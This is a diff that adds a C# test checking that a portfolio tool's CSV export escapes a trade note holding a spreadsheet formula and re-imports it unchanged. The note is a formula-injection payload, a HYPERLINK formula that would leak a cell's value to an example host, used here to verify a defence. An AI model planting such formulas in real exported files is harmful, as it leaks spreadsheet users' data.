@@ -49,6 +49,27 @@ public sealed class ActivityImportCommandTests
         }
     }
 
+    [Theory]
+    [InlineData("csv", "all.csv")]
+    [InlineData("wealthfolio", "w.csv")]
+    public async Task ANoteThatWouldRunAsASpreadsheetFormula_IsExportedAsText_AndImportedBackAsItWas(string format, string name)
+    {
+        await using var db = await WithPortfolioAsync();
+        Assert.Equal(0, (await db.HksAsync("portfolio", "create", "Copy", "--name", "Copy")).ExitCode);
+        const string Note = "=HYPERLINK(\"http://example.com/?\"&A1,\"details\")";
+        Assert.Equal(0, (await db.HksAsync("activity", "add", "Trades", "--type", "buy", "--date", "2024-06-03", "--symbol", "0700", "--quantity", "100",
+            "--price", "380.2", "--note", Note)).ExitCode);
+        var file = Path.Combine(Directory.CreateTempSubdirectory("hks-activities-").FullName, name);
+        Assert.Equal(0, (await db.HksAsync("activity", "export", "Trades", "--format", format, "--out", file)).ExitCode);
+
+        var run = await db.HksAsync("activity", "import", "Copy", file, "--format", format, "--yes");
+
+        Assert.True(run.ExitCode == 0, run.Error);
+        Assert.DoesNotContain(",=HYPERLINK", File.ReadAllText(file), StringComparison.Ordinal);
+        Assert.Contains("'=HYPERLINK", File.ReadAllText(file), StringComparison.Ordinal);
+        Assert.Equal(Note, await db.ScalarAsync<string>("SELECT note FROM activities WHERE portfolio_id = 'Copy' AND activity_type = 'buy'"));
+    }
+
     [Fact]
     public async Task AFileWithBadRows_NamesEachByItsLine_AndWritesNothing()
     {
